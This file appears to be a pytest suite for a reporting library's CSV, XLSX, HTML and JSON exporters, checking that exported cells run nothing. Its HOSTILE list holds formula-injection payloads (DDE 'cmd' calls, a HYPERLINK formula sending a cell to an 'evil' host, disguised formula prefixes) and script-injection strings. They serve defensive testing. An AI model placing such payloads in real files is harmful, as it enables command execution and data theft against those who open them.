"""Formats: the same document, with nothing in it that a program would run, and typed where a format has types."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from xml.etree import ElementTree as ET

import pytest

from orgledger.reports.document import Cell, Column, Document, Fact, Table, paged, widths
from orgledger.reports.formats.csv import write_csv
from orgledger.reports.formats.html import write_html
from orgledger.reports.formats.json import write_json
from orgledger.reports.formats.xlsx import write_xlsx

SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
HOSTILE = [
    "=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://evil/?"&A1,"x")', "=WEBSERVICE(1)",
    "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "\u00a0=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "\u2060=1+1", "\ufeff=1+1", "\u200b=1+1",
    "x\n=1+1", 'a","=1+1', "=1+1\x00", "{=1+1}", "%0A=1+1", "http://evil", "mailto:x@evil", "internal:'S'!A1",
    "<script>alert(1)</script>", "&C&P", "'=1+1",
]  # fmt: skip
"""What spreadsheets, or programs that read what they write, have been seen to run."""
FIRST = tuple("=+-@\t\r\n＝＋－＠")


def document(*rows: list[Cell], **more: str) -> Document:
    """A document of one table."""
    columns = [Column("a", "A"), Column("b", "B"), Column("m", "M", 0)]
    table = Table("t", more.pop("title", "T"), columns, [[*row, "m"] for row in rows], more.get("note"))
    return Document("x", 1, "en", "T", "acme", [Fact("a", "A", more.get("fact", ""))], [table])


def cells(body: bytes) -> list[ET.Element]:
    """Every cell of a workbook."""
    with zipfile.ZipFile(io.BytesIO(body)) as opened:
        sheets = [opened.read(name) for name in opened.namelist() if name.startswith("xl/worksheets/sheet")]
    return [cell for sheet in sheets for cell in ET.fromstring(sheet).iter(f"{SHEET}c")]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_spreadsheet_computes_a_text_of_a_csv(text: str) -> None:
    body = write_csv(document([text, -1], fact=text, note=text, title=text)).decode("utf-8-sig")

    found = [cell for row in csv.reader(io.StringIO(body, newline="")) for cell in row]

    assert sum(text in cell for cell in found) == 4
    for cell in found:
        seen = cell.lstrip(" \u00a0\u2060\ufeff\u200b\x00")
        assert cell == "-1" or not seen.startswith(FIRST)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_workbook_holds_texts_and_neither_formulas_nor_links(text: str) -> None:
    body = write_xlsx(document([text, -1], fact=text, note=text))

    with zipfile.ZipFile(io.BytesIO(body)) as opened:
        names = opened.namelist()
        assert not any("externalLink" in name or "vba" in name or "connections" in name for name in names)
        assert not any(b"hyperlink" in opened.read(name) for name in names if "worksheets" in name)
    assert not any(cell.find(f"{SHEET}f") is not None for cell in cells(body))
    assert [cell.find(f"{SHEET}v").text for cell in cells(body) if cell.get("t") is None] == ["-1"]  # type: ignore[union-attr]


def test_a_page_runs_nothing() -> None:
    page = write_html(document(["<script>alert(1)</script>", '"><img onerror=x>'], title="<b>")).decode()

    assert "<script" not in page
    assert "<img" not in page
    assert "&lt;script&gt;" in page


def test_a_workbook_is_typed_frozen_and_filtered() -> None:
    body = write_xlsx(document([date(2024, 6, 30), Decimal("1.5")], [datetime(2024, 1, 1, 12, tzinfo=UTC), 7]))

    with zipfile.ZipFile(io.BytesIO(body)) as opened:
        sheet = opened.read("xl/worksheets/sheet2.xml").decode()
    values = [cell.find(f"{SHEET}v").text for cell in cells(body) if cell.get("t") is None]  # type: ignore[union-attr]

    assert values == ["45473", "1.5", "45292.5", "7"]
    assert 'ySplit="1"' in sheet
    assert '<autoFilter ref="A1:C3"/>' in sheet
    assert 'orientation="landscape"' in sheet


def test_days_before_the_calendar_of_workbooks_stay_days() -> None:
    written = [cell for cell in cells(write_xlsx(document([date(1602, 3, 20), 1]))) if cell.get("t") is None]

    assert len(written) == 1


def test_pages_leave_out_what_is_for_machines_and_name_what_is_empty() -> None:
    table = document(["x", None], ["y", ""]).tables[0]

    shown = paged(table, "en")

    assert [column.key for column in shown.columns] == ["a"]
    assert shown.note == "In no row is anything on record for: B."
    assert [column.key for column in paged(document().tables[0], "zh").columns] == ["a", "b"]


def test_machines_get_everything() -> None:
    made = document(["x", None])

    assert b'"m": "m"' in write_json(made)
    assert "M" in write_csv(made).decode()


def test_a_column_is_as_wide_as_it_needs_and_takes_what_room_there_is() -> None:
    long, short = "long " * 20, "职责"
    table = document([long, short]).tables[0]

    assert widths(table) == [18, 4, 3]
    assert widths(table, 60) == [18 + 35, 4, 3]
    assert widths(table, 1_000) == [100, 4, 3]
